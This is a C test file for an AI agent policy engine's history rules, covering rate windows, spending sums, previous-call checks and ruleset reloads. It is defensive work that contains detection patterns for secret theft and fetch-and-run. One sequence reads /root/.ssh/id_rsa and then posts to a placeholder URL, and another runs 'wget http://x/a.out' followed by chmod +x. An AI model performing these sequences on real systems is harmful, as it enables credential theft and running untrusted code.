/* history_test.c - count()/sum()/seen()/previous over a session's
 * history: windows, bounds, many sessions, and reloads. */
#include <criterion/criterion.h>
#include <string.h>

#include "tests/policy/rules_testlib.h"

typedef struct sess {
	agate_ruleset *rs;
	agate_history *h;
	agate_arena *a;
	int64_t now;
} sess;

static void sess_init(sess *s, const char *rules, size_t max_entries)
{
	s->rs = compile_ok(rules);
	s->h = agate_history_new(max_entries);
	cr_assert(s->h);
	s->a = agate_arena_new(1 << 20);
	s->now = 1000000;
}

static void sess_fini(sess *s)
{
	agate_history_free(s->h);
	agate_arena_free(s->a);
	agate_ruleset_unref(s->rs);
}

/* decide one action at s->now, record it with its verdict, return result */
static agate_rules_result step(sess *s, const char *tool, const char *args)
{
	agate_arena_reset(s->a);
	agate_action act = mkact(s->a, tool, args);
	act.now_ms = s->now;
	agate_eval_env env = { .history = s->h };
	agate_rules_result r = eval_env(s->rs, &act, &env, s->a);
	cr_assert_eq(agate_history_record(s->h, s->rs, &act,
					  agate_enforcement_verdict(r.enforcement)), 0);
	return r;
}

Test(history, count_includes_the_current_action_within_the_window)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @mail_burst\ntrigger send_email\n"
		      "check count(tool == \"send_email\", within 60s) > 3\n"
		      "enforce block \"too many emails\"\nend\n", 100);
	for (int i = 0; i < 3; i++) {
		agate_rules_result r = step(&s, "send_email", NULL);
		cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "email %d", i + 1);
		s.now += 1000;
	}
	agate_rules_result r = step(&s, "send_email", NULL);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "the 4th in a minute");
	cr_assert_str_eq(r.reason, "too many emails");
	cr_assert_eq(agate_history_len(s.h), 4);

	/* other tools do not count, and old ones leave the window */
	s.now += 61000;
	r = step(&s, "send_email", NULL);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "the window has passed");
	sess_fini(&s);
}

Test(history, count_without_window_sees_everything_kept)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @cap\ntrigger any\ncheck count(true) >= 5\nenforce stop\nend\n", 3);
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(step(&s, "t", NULL).enforcement, AGATE_ENFORCE_ALLOW);
		s.now += 1;
	}
	/* only 3 past entries are kept: 3 + the current one = 4 < 5 forever */
	for (int i = 0; i < 10; i++) {
		cr_assert_eq(step(&s, "t", NULL).enforcement, AGATE_ENFORCE_ALLOW);
		cr_assert_leq(agate_history_len(s.h), 3);
		s.now += 1;
	}
	sess_fini(&s);
}

Test(history, seen_read_then_send)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "list @secrets := [\"/etc\", \"/root/.ssh\"]\n"
		      "predicate read_secret := tool == \"read_file\" and args.path under @secrets\n"
		      "rule @exfil\ntrigger send_email, http_post\n"
		      "check seen(read_secret, within 1h)\n"
		      "enforce block \"a secret was read earlier in this session\"\nend\n"
		      "rule @self\ntrigger read_file\ncheck seen(read_secret)\nenforce review\nend\n",
		  100);
	cr_assert_eq(step(&s, "send_email", "{\"to\": \"x\"}").enforcement, AGATE_ENFORCE_ALLOW);
	s.now += 1000;
	agate_rules_result r = step(&s, "read_file", "{\"path\": \"/root/.ssh/id_rsa\"}");
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "seen() does not look at the current action");
	s.now += 1000;
	r = step(&s, "http_post", "{\"url\": \"http://x\"}");
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK);
	cr_assert_str_eq(r.rule, "exfil");
	r = step(&s, "read_file", "{\"path\": \"/tmp/x\"}");
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_REVIEW, "now it was seen earlier");
	s.now += 2 * 3600 * 1000;
	r = step(&s, "send_email", NULL);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "outside the hour");
	sess_fini(&s);
}

Test(history, sum_with_window_and_where)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @daily_cap\ntrigger transfer\n"
		      "check sum(args.amount, within 1d, where args.currency == \"USD\") > 10000\n"
		      "enforce review \"daily transfer cap\"\nend\n", 1000);
	cr_assert_eq(step(&s, "transfer", "{\"amount\": \"$4,000\", \"currency\": \"USD\"}").enforcement,
		     AGATE_ENFORCE_ALLOW);
	s.now += 1000;
	cr_assert_eq(step(&s, "transfer", "{\"amount\": 9000, \"currency\": \"EUR\"}").enforcement,
		     AGATE_ENFORCE_ALLOW, "EUR does not count");
	s.now += 1000;
	cr_assert_eq(step(&s, "transfer", "{\"amount\": 5000, \"currency\": \"USD\"}").enforcement,
		     AGATE_ENFORCE_ALLOW, "9000 so far");
	s.now += 1000;
	agate_rules_result r = step(&s, "transfer", "{\"amount\": \"1500.50\", \"currency\": \"USD\"}");
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_REVIEW, "10500.50 > 10000");
	s.now += 86400 * 1000;
	cr_assert_eq(step(&s, "transfer", "{\"amount\": 100, \"currency\": \"USD\"}").enforcement,
		     AGATE_ENFORCE_ALLOW, "a day later");
	sess_fini(&s);
}

Test(history, previous_tool_and_verdict)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @after_block\ntrigger any\ncheck previous.verdict == \"block\"\n"
		      "enforce review \"previous call was blocked\"\nend\n"
		      "rule @no_delete\ntrigger delete\nenforce block\nend\n"
		      "rule @download_then_run\ntrigger bash\ncheck previous.tool == \"DOWNLOAD\"\n"
		      "enforce block \"runs what it just downloaded\"\nend\n", 10);
	cr_assert_eq(step(&s, "read", NULL).enforcement, AGATE_ENFORCE_ALLOW);
	cr_assert_eq(step(&s, "delete", NULL).enforcement, AGATE_ENFORCE_BLOCK);
	cr_assert_eq(step(&s, "read", NULL).enforcement, AGATE_ENFORCE_REVIEW);
	cr_assert_eq(step(&s, "read", NULL).enforcement, AGATE_ENFORCE_ALLOW, "review is not block");
	cr_assert_eq(step(&s, "download", NULL).enforcement, AGATE_ENFORCE_ALLOW);
	agate_rules_result r = step(&s, "bash", NULL);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK);
	cr_assert_str_eq(r.rule, "download_then_run");
	sess_fini(&s);
}

Test(history, no_history_sees_only_the_current_action)
{
	agate_ruleset *rs = compile_ok("default allow\n"
				       "rule @r\ntrigger any\ncheck count(true) >= 1 and not seen(true)\n"
				       "  previous.tool == nil\nenforce block\nend\n");
	agate_arena *a = agate_arena_new(1 << 16);
	agate_action act = mkact(a, "x", NULL);
	cr_assert_eq(eval1(rs, &act, a).enforcement, AGATE_ENFORCE_BLOCK);
	agate_arena_free(a);
	agate_ruleset_unref(rs);
}

Test(history, many_sessions_have_bounded_memory)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @burst\ntrigger a\ncheck count(tool == \"a\", within 10s) > 40\n"
		      "  sum(args.n, within 1m) > 0\nenforce block\nend\n"
		      "rule @seen_b\ntrigger c\ncheck seen(tool == \"b\")\nenforce review\nend\n", 64);
	agate_history_free(s.h);
	s.h = NULL;
	enum { N = 1000 };
	agate_history **hs = calloc(N, sizeof(*hs));
	size_t total = 0, biggest = 0;
	for (int i = 0; i < N; i++) {
		hs[i] = agate_history_new(64);
		cr_assert(hs[i]);
	}
	for (int round = 0; round < 200; round++) {
		for (int i = 0; i < N; i += 7) { /* a spread of sessions */
			agate_arena_reset(s.a);
			agate_action act = mkact(s.a, round % 3 ? "a" : "b", "{\"n\": 1}");
			act.now_ms = 1000000 + round * 10;
			cr_assert_eq(agate_history_record(hs[i], s.rs, &act, AGATE_VERDICT_ALLOW), 0);
		}
	}
	for (int i = 0; i < N; i++) {
		size_t b = agate_history_bytes(hs[i]);
		total += b;
		if (b > biggest)
			biggest = b;
		cr_assert_leq(agate_history_len(hs[i]), 64);
	}
	/* 64 entries of time + one word of bits + one number, plus the header */
	cr_assert_leq(biggest, 64 * 24 + 512, "%zu bytes in one session", biggest);
	cr_assert_leq(total, (size_t)N * 2048);
	cr_assert_eq(agate_history_len(hs[0]), 64);
	cr_assert_eq(agate_history_len(hs[1]), 0);

	/* a session that did 64 "a"/"b" actions within 10s */
	agate_arena_reset(s.a);
	agate_action act = mkact(s.a, "c", NULL);
	act.now_ms = 1000000 + 199 * 10;
	agate_eval_env env = { .history = hs[0] };
	agate_rules_result r = eval_env(s.rs, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_REVIEW, "seen b");
	act = mkact(s.a, "a", "{\"n\": 1}");
	act.now_ms = 1000000 + 199 * 10;
	r = eval_env(s.rs, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "43 a in 10s (42 kept + this one), sum > 0");
	env.history = hs[1];
	r = eval_env(s.rs, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "an idle session");
	for (int i = 0; i < N; i++)
		agate_history_free(hs[i]);
	free(hs);
	sess_fini(&s);
}

Test(history, reload_keeps_unchanged_expressions)
{
	const char *v1 = "default allow\n"
			 "rule @x_burst\ntrigger any\ncheck count(tool == \"x\") >= 3\nenforce block \"x\"\nend\n"
			 "rule @y_seen\ntrigger any\ncheck seen(tool == \"y\")\nenforce review\nend\n";
	/* same x expression (written differently spaced), a new z expression */
	const char *v2 = "default allow\n"
			 "rule @z_seen\ntrigger any\ncheck seen(tool == \"z\")\nenforce review \"z\"\nend\n"
			 "rule @x_burst2\ntrigger any\ncheck count(tool==\"x\") >= 3\nenforce block \"x2\"\nend\n";
	sess s;
	sess_init(&s, v1, 100);
	step(&s, "x", NULL);
	step(&s, "z", NULL);
	step(&s, "x", NULL);
	step(&s, "y", NULL);

	agate_ruleset *rs2 = compile_ok(v2);
	agate_arena_reset(s.a);
	agate_action act = mkact(s.a, "x", NULL);
	act.now_ms = s.now;
	agate_eval_env env = { .history = s.h };
	/* before anything is recorded under the new set */
	agate_rules_result r = eval_env(rs2, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "x kept its past: 2 + current");
	cr_assert_str_eq(r.rule, "x_burst2");
	act = mkact(s.a, "q", NULL);
	r = eval_env(rs2, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "z is new: no past, although z ran");

	/* recording under the new set re-lays the history out */
	cr_assert_eq(agate_history_record(s.h, rs2, &act, AGATE_VERDICT_ALLOW), 0);
	/* kept: x, x, y (z answered nothing under v1, q nothing under v2) */
	cr_assert_eq(agate_history_len(s.h), 3);
	act = mkact(s.a, "x", NULL);
	r = eval_env(rs2, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "still 2 x in the past");
	act = mkact(s.a, "z", NULL);
	cr_assert_eq(agate_history_record(s.h, rs2, &act, AGATE_VERDICT_ALLOW), 0);
	act = mkact(s.a, "q", NULL);
	r = eval_env(rs2, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_REVIEW, "z recorded under the new set");

	/* back to the old set: y was dropped by the reload */
	act = mkact(s.a, "q", NULL);
	r = eval_env(s.rs, &act, &env, s.a);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "y's column did not survive");
	agate_ruleset_unref(rs2);
	sess_fini(&s);
}

Test(history, edited_predicate_is_a_new_expression)
{
	const char *v1 = "default allow\npredicate p := tool == \"x\"\n"
			 "rule @r\ntrigger any\ncheck seen(p)\nenforce block\nend\n";
	const char *v2 = "default allow\npredicate p := tool == \"w\"\n"
			 "rule @r\ntrigger any\ncheck seen(p)\nenforce block\nend\n";
	sess s;
	sess_init(&s, v1, 10);
	step(&s, "x", NULL);
	cr_assert_eq(step(&s, "q", NULL).enforcement, AGATE_ENFORCE_BLOCK);
	agate_ruleset *rs2 = compile_ok(v2);
	agate_action act = mkact(s.a, "q", NULL);
	agate_eval_env env = { .history = s.h };
	cr_assert_eq(eval_env(rs2, &act, &env, s.a).enforcement, AGATE_ENFORCE_ALLOW,
		     "p changed meaning: its past does not carry over");
	agate_ruleset_unref(rs2);
	sess_fini(&s);
}

Test(history, edited_list_is_a_new_expression)
{
	const char *v1 = "default allow\nlist @l := [\"x\"]\n"
			 "rule @r\ntrigger any\ncheck seen(tool in @l)\nenforce block\nend\n";
	const char *v1b = "default allow\nlist @l := [\"x\"]  # same list, new comment\n"
			  "rule @r2\ntrigger any\ncheck seen(tool in @l)\nenforce block\nend\n";
	const char *v2 = "default allow\nlist @l := [\"x\", \"w\"]\n"
			 "rule @r\ntrigger any\ncheck seen(tool in @l)\nenforce block\nend\n";
	sess s;
	sess_init(&s, v1, 10);
	step(&s, "x", NULL);
	agate_ruleset *same = compile_ok(v1b), *edited = compile_ok(v2);
	agate_action act = mkact(s.a, "q", NULL);
	agate_eval_env env = { .history = s.h };
	cr_assert_eq(eval_env(same, &act, &env, s.a).enforcement, AGATE_ENFORCE_BLOCK,
		     "same expression: the past carries over");
	cr_assert_eq(eval_env(edited, &act, &env, s.a).enforcement, AGATE_ENFORCE_ALLOW,
		     "the list changed: a new expression");
	agate_ruleset_unref(same);
	agate_ruleset_unref(edited);
	sess_fini(&s);
}

Test(history, history_expressions_with_shell_and_regex)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "predicate downloads := cmd(args.command) { program in [\"curl\", \"wget\"] }\n"
		      "rule @run_download\ntrigger bash\n"
		      "check seen(downloads, within 5m) and args.command matches /\\bchmod\\s+\\+x/\n"
		      "enforce block \"executes a download\"\nend\n", 16);
	cr_assert_eq(step(&s, "bash", "{\"command\": \"chmod +x a.out\"}").enforcement, AGATE_ENFORCE_ALLOW);
	cr_assert_eq(step(&s, "bash", "{\"command\": \"cd /tmp && wget http://x/a.out\"}").enforcement,
		     AGATE_ENFORCE_ALLOW);
	s.now += 1000;
	cr_assert_eq(step(&s, "bash", "{\"command\": \"chmod +x a.out\"}").enforcement, AGATE_ENFORCE_BLOCK);
	sess_fini(&s);
}

Test(history, zero_entries_keeps_only_previous)
{
	sess s;
	sess_init(&s, "default allow\nrule @r\ntrigger any\ncheck previous.tool == \"a\" or seen(true)\n"
		      "enforce block\nend\n", 0);
	step(&s, "a", NULL);
	cr_assert_eq(agate_history_len(s.h), 0);
	cr_assert_eq(step(&s, "b", NULL).enforcement, AGATE_ENFORCE_BLOCK, "previous is kept");
	cr_assert_eq(step(&s, "c", NULL).enforcement, AGATE_ENFORCE_ALLOW);
	sess_fini(&s);
}

/* Recording evaluates each history expression in a scratch arena reset
 * between expressions: answers shared inside one call (lower(), first(),
 * regex tests) must not outlive that reset. */
Test(history, shared_answers_do_not_leak_between_recorded_expressions)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @a\ntrigger t\n"
		      "check count(lower(args.a) == \"abcdefghijklmnop\") > 1\n"
		      "  and count(lower(args.b) matches /^qrstuvwxyz/) > 1\n"
		      "  and count(first(args.c, args.a) == \"ABCDEFGHIJKLMNOP\") > 1\n"
		      "enforce block \"both\"\nend\n", 100);
	const char *args = "{\"a\": \"ABCDEFGHIJKLMNOP\", \"b\": \"QRSTUVWXYZ0123\"}";
	agate_rules_result r = step(&s, "t", args);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW);
	s.now += 1000;
	r = step(&s, "t", args);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "each expression held both times");
	sess_fini(&s);
	/* a long string made by lower() in a later expression lands where
	 * the scratch arena held the earlier expression's answers */
	char rules[1024], args2[512], lon[128];
	memset(lon, 'b', 100);
	lon[100] = '\0';
	snprintf(rules, sizeof(rules), "default allow\n"
		 "rule @a\ntrigger t\n"
		 "check count(lower(args.a) == \"aaaa\") > 1\n"
		 "  and count(lower(args.b) == \"%s\" and lower(args.a) == \"aaaa\") > 1\n"
		 "enforce block \"both\"\nend\n", lon);
	snprintf(args2, sizeof(args2), "{\"a\": \"AAAA\", \"b\": \"%s\"}", lon);
	sess_init(&s, rules, 100);
	r = step(&s, "t", args2);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW);
	s.now += 1000;
	r = step(&s, "t", args2);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "both expressions were recorded as holding");
	/* and one that never held is not counted */
	sess_fini(&s);
	sess_init(&s, "default allow\n"
		      "rule @a\ntrigger t\n"
		      "check count(lower(args.a) == \"abcdefghijklmnop\") > 0\n"
		      "  and count(lower(args.b) == \"nothing-like-it\") > 0\n"
		      "enforce block \"x\"\nend\n", 100);
	for (int i = 0; i < 3; i++) {
		r = step(&s, "t", args);
		cr_assert_eq(r.enforcement, AGATE_ENFORCE_ALLOW, "call %d", i + 1);
		s.now += 1000;
	}
	sess_fini(&s);
}

/* A flood of harmless calls between the counted ones does not push the
 * counted ones out of a full ring: an entry that answers no history
 * expression is not kept. Sums read a present non-number as unbounded. */
Test(history, harmless_flood_does_not_push_counted_calls_out)
{
	sess s;
	sess_init(&s, "default allow\n"
		      "rule @mail_burst\ntrigger send_email\n"
		      "check count(tool == \"send_email\", within 1h) > 3\n"
		      "enforce block \"too many emails\"\nend\n", 16);
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(step(&s, "send_email", NULL).enforcement, AGATE_ENFORCE_ALLOW);
		for (int k = 0; k < 100; k++) {
			s.now += 1;
			step(&s, "read_file", NULL);
		}
	}
	agate_rules_result r = step(&s, "send_email", NULL);
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK, "300 reads between 4 emails");
	cr_assert_eq(agate_history_len(s.h), 4);
	sess_fini(&s);

	sess_init(&s, "default allow\n"
		      "rule @spend\ntrigger pay\n"
		      "check sum(args.amount, within 1d) > 1000\n"
		      "enforce block \"daily limit\"\nend\n", 16);
	cr_assert_eq(step(&s, "pay", "{\"amount\": 10}").enforcement, AGATE_ENFORCE_ALLOW);
	cr_assert_eq(step(&s, "pay", "{\"amount\": \"50_000\"}").enforcement, AGATE_ENFORCE_BLOCK);
	r = step(&s, "pay", "{\"amount\": 5}");
	cr_assert_eq(r.enforcement, AGATE_ENFORCE_BLOCK,
		     "an amount that was not a plain number stays in the day's sum as unbounded");
	sess_fini(&s);
}
